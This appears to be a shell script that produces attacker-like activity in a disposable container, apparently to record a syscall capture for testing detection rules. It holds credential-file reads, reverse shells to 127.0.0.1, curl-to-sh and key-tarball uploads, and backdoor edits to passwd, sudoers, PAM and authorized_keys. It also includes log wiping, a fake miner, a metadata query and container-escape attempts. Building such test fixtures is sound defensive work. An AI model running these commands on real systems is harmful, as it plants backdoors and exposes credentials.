# What attack-in-container.scap.gz shows. Run it only where everything may be lost: it changes accounts, logs and programs.
cat /etc/shadow >/dev/null
cat /root/.ssh/id_rsa /root/.aws/credentials /root/.bash_history >/dev/null
find /root -name id_rsa >/dev/null
find /etc/cron.d -perm -4000
cat /proc/1/environ >/dev/null
cat /run/secrets/kubernetes.io/serviceaccount/token >/dev/null
echo aWQK | base64 -d >/dev/null
echo '* * * * * root id' > /etc/cron.d/job
echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys
echo /tmp/lib.so > /etc/ld.so.preload; rm /etc/ld.so.preload
echo '[Service]' > /etc/systemd/system/evil.service
echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd
echo 'www-data ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/www
echo 'x:x:0:0::/root:/bin/sh' >> /etc/passwd
echo 'id' >> /root/.bashrc
cp /bin/true /usr/bin/newtool; rm /usr/bin/newtool
echo > /var/log/auth.log; rm /var/log/auth.log
rm /root/.bash_history
ln -s /etc/shadow /tmp/innocent
touch -d '2020-01-01' /tmp/innocent2
cp /bin/true /dev/shm/tool; /dev/shm/tool
cp /bin/true /tmp/tool; /tmp/tool
cp /bin/true /tmp/.hidden; /tmp/.hidden
cp /bin/true /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.example:3333
chmod u+s /tmp/tool
tar cf /tmp/keys.tar -C /root .ssh
bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; sh -c id <&5 >&5 2>&5'
sh -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' </dev/null
curl -s -m 1 -o /tmp/payload http://127.0.0.1:4445/ ; curl -s -m 1 http://127.0.0.1:4445/ | sh
curl -s -m 1 -T /tmp/keys.tar http://127.0.0.1:4445/ >/dev/null
curl -s -m 1 http://169.254.169.254/latest/meta-data/ >/dev/null
/usr/bin/python3 -I -S -c 'import os; print(os.getpid())'  >/dev/null
/usr/bin/python3 -I -S - <<'P'
import os, socket, ctypes
fd = os.memfd_create('x'); os.write(fd, open('/bin/true','rb').read())
if os.fork() == 0: os.execve(fd, ['from-memory'], {})
os.wait()
try: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
except OSError as e: pass
s = socket.socket(); s.settimeout(0.2)
for a in (('192.0.2.10', 6443), ('192.0.2.10', 10250), ('192.0.2.10', 3333)):
    try:
        t = socket.socket(); t.setblocking(False); t.connect(a)
    except OSError: pass
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, 1 << 21, 0, 0)
libc.unshare(0x10000000)
P
mount -t tmpfs none /mnt
nsenter -t 1 -m true 2>/dev/null
mknod /tmp/device b 8 0
dd if=/dev/zero of=/tmp/zero bs=1 count=1 2>/dev/null; shred -n 1 /tmp/zero
gcc --version >/dev/null
apt-get --version >/dev/null
ssh -o ConnectTimeout=1 -o BatchMode=yes 127.0.0.1 true 2>/dev/null; nc -h 2>/dev/null; kubectl get secrets
